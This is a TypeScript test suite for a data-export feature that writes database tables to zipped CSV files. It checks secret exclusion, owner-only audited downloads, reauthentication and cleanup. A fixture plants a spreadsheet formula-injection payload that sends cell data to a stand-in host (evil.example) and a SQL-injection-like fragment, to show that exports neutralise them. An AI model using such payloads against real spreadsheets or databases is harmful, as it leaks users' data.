import { createHash } from 'node:crypto'
import { mkdir, readdir, rm, stat, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { unzipSync } from 'fflate'
import { sql } from 'kysely'
import Papa from 'papaparse'
import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest'
import type { AuditPage } from '#features/audit/console/schema.ts'
import { audit } from '#features/audit/index.server.ts'
import { endLongJob, startLongJob } from '#features/backgroundJobs/usecases/longJobs.server.ts'
import { identity } from '#features/identity/index.server.ts'
import { inTransaction } from '#lib/db.server.ts'
import { type TestApp, testApp } from '#tests/app.ts'
import { makePerson, signInAs } from '#tests/people.ts'
import { countStatements } from '#tests/statements.ts'
import { makePackage } from '#tests/timetable.ts'
import type { Visitor } from '#tests/visitor.ts'
import type { ExportView } from './console/schema.ts'
import { dataExport } from './index.server.ts'
import { startDataExportJobs, tidyExports } from './jobs.server.ts'
import { cellOf, excludedTables, isExported, isSecretColumn } from './rules.ts'
import { tablesOf } from './store.server.ts'

let server: TestApp
let radhika: Visitor
let other: Visitor
beforeAll(async () => {
  server = await testApp({ features: [identity, audit, dataExport], jobs: [dataExport] })
  await makePerson(server, { email: 'radhika@export.example', firstName: 'Radhika', role: 'owner' })
  await makePerson(server, { email: 'other@export.example', role: 'owner' })
  await makePerson(server, { email: 'hindi@export.example', firstName: 'प्रिया', lastName: 'शर्मा' })
  await makePerson(server, {
    email: 'formula@export.example',
    firstName: '=HYPERLINK("http://evil.example?"&A1)',
    lastName: "+1\t@SUM(A1)\n'; drop",
  })
  await makePackage(server.deps.db)
})
afterAll(() => server.close())
beforeEach(async () => {
  server.clock.set('2026-11-23T06:30:00Z')
  radhika = await signInAs(server, 'radhika@export.example')
  other = await signInAs(server, 'other@export.example')
})

const start = async (who: Visitor) => {
  const { status, body } = await who.call<ExportView>('POST', '/console/exports')
  expect(status, body.message).toBe(201)
  return body.data._id
}
const exportsOf = async (who: Visitor) =>
  (await who.call<{ rows: ExportView[] }>('GET', '/console/exports')).body.data.rows
async function waitUntilDone(exportId: string, who = radhika): Promise<ExportView> {
  const match = async () => (await exportsOf(who)).find(({ _id }) => _id === exportId)
  await expect.poll(async () => (await match())?.state, { timeout: 20_000 }).toBe('done')
  return (await match()) as ExportView
}
const cookieOf = (who: Visitor) => [...who.cookies].map((c) => c.join('=')).join('; ')
const fetchFile = (who: Visitor, exportId: string) =>
  server.app.inject({
    url: `/api/v1/console/exports/${exportId}/file`,
    headers: { cookie: cookieOf(who) },
  })
/** Downloads an export. Returns the files in it by name, as tables. */
async function readZip(exportId: string): Promise<Map<string, string[][]>> {
  const { statusCode, rawPayload, headers } = await fetchFile(radhika, exportId)
  expect(statusCode).toBe(200)
  expect(headers['content-type']).toBe('application/zip')
  expect(headers['content-disposition']).toBe('attachment; filename="contrology-2026-11-23.zip"')
  expect(headers['cache-control']).toBe('no-store')
  const files = Object.entries(unzipSync(rawPayload))
  return new Map(
    files.map(([name, bytes]) => {
      const text = Buffer.from(bytes).toString()
      expect(text.charCodeAt(0), name).toBe(0xfeff)
      return [name, Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data]
    }),
  )
}

test('an export is a zip with a CSV file for each table', async () => {
  const exportId = await start(radhika)
  const done = await waitUntilDone(exportId)
  expect(done).toMatchObject({ done: done.total, retainedUntil: '2026-11-24T06:30:00.000Z' })
  const files = await readZip(exportId)
  expect(files.size).toBe(done.tables)
  expect([...files.values()].reduce((sum, rows) => sum + rows.length - 1, 0)).toBe(done.rows)
  for (const name of [
    'person',
    'class',
    'session',
    'booking',
    'pass',
    'ledger_entry',
    'payment_order',
    'enquiry',
  ])
    expect([...files.keys()]).toContain(`${name}.csv`)
  const [head = [], ...people] = files.get('person.csv') ?? []
  const index = (column: string) => head.indexOf(column)
  const priya = people.find((row) => row[index('email')] === 'hindi@export.example')
  expect(priya?.[index('first_name')]).toBe('प्रिया')
  expect(priya?.[index('birth_date')]).toBe('1990-05-17')
  expect(priya?.[index('created_at')]).toBe('2026-11-23T06:30:00.000Z')
  expect(files.get('booking.csv')).toHaveLength(1)
})

test('every table of the database is exported, or listed with the reason why it is not', async () => {
  const { rows } = await sql<{ name: string }>`
    select relname as name from pg_class
    where relnamespace = 'public'::regnamespace and relkind in ('r', 'p', 'm', 'f')`.execute(server.deps.db)
  const exportId = await start(radhika)
  await waitUntilDone(exportId)
  const files = await readZip(exportId)
  expect([...files.keys(), ...Object.keys(excludedTables).map((name) => `${name}.csv`)].toSorted()).toEqual(
    rows.map(({ name }) => `${name}.csv`).toSorted(),
  )
})

test('every column of an exported table is exported, except the listed secrets', async () => {
  const tables = (await tablesOf(server.deps.db)).filter(({ name }) => isExported(name))
  const secrets = tables.flatMap((table) =>
    table.columns
      .filter((column) => isSecretColumn(table.name, column))
      .map(({ name }) => `${table.name}.${name}`),
  )
  expect(secrets).toEqual([
    'gift.token_hash',
    'pass_invitation.token_hash',
    'person.password_hash',
    'staff_invitation.token_hash',
  ])
})

test('no cell would run as a formula in a spreadsheet', async () => {
  const exportId = await start(radhika)
  await waitUntilDone(exportId)
  const files = await readZip(exportId)
  const cells = [...files.values()].flat(2)
  expect(cells.filter((cell) => /^[=+@\t\r|%＝＋－＠]/.test(cell))).toEqual([])
  // A negative number is not a formula. Other text that starts with a minus sign may be one.
  expect(cells.filter((cell) => cell.startsWith('-') && !/^-\d+$/.test(cell))).toEqual([])
  const people = files.get('person.csv') ?? []
  expect(people.flat()).toContain('\'=HYPERLINK("http://evil.example?"&A1)')
  expect(people.flat()).toContain("'+1\t@SUM(A1)\n'; drop")
})

test('no passwords, tokens or sealed secrets are exported, even from tables that are added later', async () => {
  const { db } = server.deps
  await server.database.asOwner(async (owner) => {
    await owner.query(
      'create table added_later (id int, note text, api_token text, sealed_key text, raw bytea)',
    )
    await owner.query(
      "insert into added_later values (1, 'told', 'tok-planted', 'sealed-planted', 'raw-planted')",
    )
    await owner.query('grant select on added_later to contrology_app')
  })
  const exportId = await start(radhika)
  await waitUntilDone(exportId)
  const files = await readZip(exportId)
  const all = JSON.stringify([...files])
  const hashes = await db.selectFrom('person').select('passwordHash').execute()
  for (const { passwordHash } of hashes) expect(all).not.toContain(passwordHash)
  const tokens = await db.selectFrom('refreshToken').select('tokenHash').execute()
  expect(tokens.length).toBeGreaterThan(0)
  for (const { tokenHash } of tokens) expect(all).not.toContain(tokenHash.toString('hex'))
  for (const name of ['accessToken', 'refreshToken']) {
    const value = radhika.cookies.get(name) ?? ''
    expect(value).not.toBe('')
    expect(all).not.toContain(value)
    expect(all).not.toContain(createHash('sha256').update(value).digest('hex'))
  }
  expect(all).not.toContain('$argon2')
  expect(all).not.toContain('planted')
  expect(files.get('added_later.csv')).toEqual([
    ['id', 'note'],
    ['1', 'told'],
  ])
  for (const name of ['refresh_token', 'passkey', 'recovery_code', 'authenticator_app', 'one_time_code'])
    expect(files.has(`${name}.csv`), name).toBe(false)
})

test.each(['password_hash', 'token_hash', 'sealed_secret', 'device_digest', 'api_secret'])(
  'a column named %s is not exported',
  (name) => {
    expect(isSecretColumn('added_later', { name, type: 'text' })).toBe(true)
    expect(isSecretColumn('added_later', { name: 'note', type: 'text' })).toBe(false)
  },
)

test('lists and records are written as JSON, and missing values as null', () => {
  expect(cellOf([1, 3])).toBe('[1,3]')
  expect(cellOf({ name: 'Mat' })).toBe('{"name":"Mat"}')
  expect([cellOf(null), cellOf(undefined), cellOf(false), cellOf(0)]).toEqual([null, null, false, 0])
})

test('only the owner who started an export can download it, for a day, and each download is audited', async () => {
  const exportId = await start(radhika)
  await waitUntilDone(exportId)
  expect((await fetchFile(other, exportId)).statusCode).toBe(404)
  expect((await other.call('POST', `/console/exports/${exportId}/downloads`)).status).toBe(404)
  expect(await exportsOf(other)).toEqual([])
  const { body } = await radhika.call<{ href: string }>('POST', `/console/exports/${exportId}/downloads`)
  expect(body.data.href).toBe(`/api/v1/console/exports/${exportId}/file`)
  const recorded = async () => {
    const audited = await radhika.call<AuditPage>('GET', `/console/audit?subjectId=${exportId}`)
    return audited.body.data.rows.map(({ action, staff }) => [action, staff?.name])
  }
  const [started, fetched] = [
    ['export.start', 'Radhika Test'],
    ['export.download', 'Radhika Test'],
  ]
  expect(await recorded()).toEqual([started])
  expect((await fetchFile(radhika, exportId)).statusCode).toBe(200)
  expect(await recorded()).toEqual([fetched, started])
  server.clock.advance({ hours: 23 })
  radhika = await signInAs(server, 'radhika@export.example')
  expect((await fetchFile(radhika, exportId)).statusCode).toBe(200)
  server.clock.advance({ hours: 1 })
  radhika = await signInAs(server, 'radhika@export.example')
  expect((await fetchFile(radhika, exportId)).statusCode).toBe(404)
  expect(await recorded()).toEqual([fetched, fetched, started])
  const folder = join(server.deps.dataDir, 'exports')
  expect(await readdir(folder)).toContain(`${exportId}.zip`)
  expect((await stat(join(folder, `${exportId}.zip`))).mode & 0o077).toBe(0)
  await tidyExports(server.deps)
  expect(await readdir(folder)).not.toContain(`${exportId}.zip`)
})

test('starting an export and downloading it require reauthentication', async () => {
  const exportId = await start(radhika)
  await waitUntilDone(exportId)
  server.clock.advance({ minutes: 11 })
  const refused = [
    (await radhika.call('POST', '/console/exports')).body.error?.code,
    (await radhika.call('POST', `/console/exports/${exportId}/downloads`)).body.error?.code,
    (await fetchFile(radhika, exportId)).json().error.code,
  ]
  expect(refused).toEqual(Array(3).fill('FRESH_PROOF_REQUIRED'))
})

test('repeated requests return the running export, even simultaneous ones', async () => {
  const ids = await Promise.all([start(radhika), start(radhika), start(radhika)])
  expect([...ids, await start(radhika)]).toEqual(Array(4).fill(ids[0]))
  await waitUntilDone(ids[0] as string)
})

test('an export that is not finished after a day does not prevent another one', async () => {
  const { db, clock } = server.deps
  const startedBy = (await radhika.call<{ _id: string }>('GET', '/user/get-user')).body.data._id
  const before = clock.now().subtract({ hours: 25 }).toString()
  const stuck = await db
    .insertInto('longJob')
    .values({ kind: 'dataExport.run', total: 9, startedBy, startedAt: before })
    .returning('id')
    .executeTakeFirstOrThrow()
  const exportId = await start(radhika)
  expect(exportId).not.toBe(stuck.id)
  await waitUntilDone(exportId)
  expect((await exportsOf(radhika)).find(({ _id }) => _id === stuck.id)?.state).toBe('failed')
})

test('an export whose file cannot be written is shown as failed', async () => {
  const { deps } = server
  const blocked = { ...deps, dataDir: join(deps.dataDir, 'blocked') }
  const { runExport } = await import('./usecases/exportData.server.ts')
  const startedBy = (await radhika.call<{ _id: string }>('GET', '/user/get-user')).body.data._id
  const exportId = await deps.db
    .transaction()
    .execute((trx) => startLongJob(trx, { kind: 'dataExport.run', total: 9, startedBy }, deps.clock.now()))
  // A folder blocks the path of the file.
  await mkdir(join(blocked.dataDir, 'exports', `${exportId}.zip.part`), { recursive: true })
  await runExport(blocked, exportId)
  expect((await exportsOf(radhika)).find(({ _id }) => _id === exportId)?.state).toBe('failed')
})

const waitForLock = () =>
  vi.waitFor(async () => {
    const { rows } = await sql`select from pg_locks join pg_stat_activity using (pid)
      where datname = current_database() and not granted`.execute(server.deps.db)
    expect(rows.length).toBeGreaterThan(0)
  })

test('a download that has begun is completed, even if the file is removed', async () => {
  const exportId = await start(radhika)
  await waitUntilDone(exportId)
  const file = join(server.deps.dataDir, 'exports', `${exportId}.zip`)
  const { size } = await stat(file)
  let fetched: ReturnType<typeof fetchFile> | undefined
  await server.database.asOwner(async (owner) => {
    await owner.query('begin')
    await owner.query('lock table audit_entry in exclusive mode')
    fetched = fetchFile(radhika, exportId)
    await waitForLock()
    await rm(file)
    await owner.query('rollback')
  })
  expect((await fetched)?.rawPayload.length).toBe(size)
})

test('an export that starts while old exports are removed keeps its file', async () => {
  const { db, clock, dataDir } = server.deps
  const startedBy = (await radhika.call<{ _id: string }>('GET', '/user/get-user')).body.data._id
  const folder = join(dataDir, 'exports')
  const over = `${crypto.randomUUID()}.zip`
  await writeFile(join(folder, over), '')
  let tidied: Promise<void> | undefined
  const exportId = await inTransaction(db, async (trx) => {
    // The removal has listed the files, and waits for the lock to read the exports.
    await sql`lock table long_job in access exclusive mode`.execute(trx)
    tidied = tidyExports(server.deps)
    await waitForLock()
    const id = await startLongJob(trx, { kind: 'dataExport.run', total: 9, startedBy }, clock.now())
    await writeFile(join(folder, `${id}.zip.part`), '')
    return id
  })
  await tidied
  const stored = await readdir(folder)
  expect(stored).toContain(`${exportId}.zip.part`)
  expect(stored).not.toContain(over)
  await inTransaction(db, (trx) => endLongJob(trx, exportId, { state: 'failed' }, clock.now()))
})

test('each server removes old exports from its own disk when it starts, and each hour', async () => {
  const dataDir = join(server.deps.dataDir, 'another')
  const folder = join(dataDir, 'exports')
  await mkdir(folder, { recursive: true })
  const addOld = () => writeFile(join(folder, `${crypto.randomUUID()}.zip`), '')
  await addOld()
  vi.useFakeTimers({ toFake: ['setInterval'] })
  const jobs = { ...server.deps.jobs, work: async () => {} }
  await startDataExportJobs({ ...server.deps, dataDir, jobs })
  expect(await readdir(folder)).toEqual([])
  await addOld()
  vi.advanceTimersByTime(3_600_000)
  vi.useRealTimers()
  await vi.waitFor(async () => expect(await readdir(folder)).toEqual([]))
})

test('old exports are removed although the folder also contains other things, as a volume does', async () => {
  const folder = join(server.deps.dataDir, 'exports')
  await mkdir(join(folder, 'lost+found'), { recursive: true })
  await writeFile(join(folder, 'notes.zip'), '')
  const old = `${crypto.randomUUID()}.zip`
  await writeFile(join(folder, old), '')
  await tidyExports(server.deps)
  const stored = await readdir(folder)
  expect(stored).not.toContain(old)
  expect(stored).toEqual(expect.arrayContaining(['lost+found', 'notes.zip']))
})

test('the removal of old exports needs one statement, however many are stored', async () => {
  const counted = countStatements(server.database)
  const folder = join(server.deps.dataDir, 'exports')
  await mkdir(folder, { recursive: true })
  const costOf = async (count: number) => {
    const stored = Array.from({ length: count }, () => `${crypto.randomUUID()}.zip`)
    for (const name of stored) await writeFile(join(folder, name), '')
    const cost = await counted.during(() => tidyExports({ ...server.deps, db: counted.db }))
    expect((await readdir(folder)).filter((name) => stored.includes(name))).toEqual([])
    return cost
  }
  expect(await costOf(1)).toBe(1)
  expect(await costOf(12)).toBe(1)
  await counted.db.destroy()
})
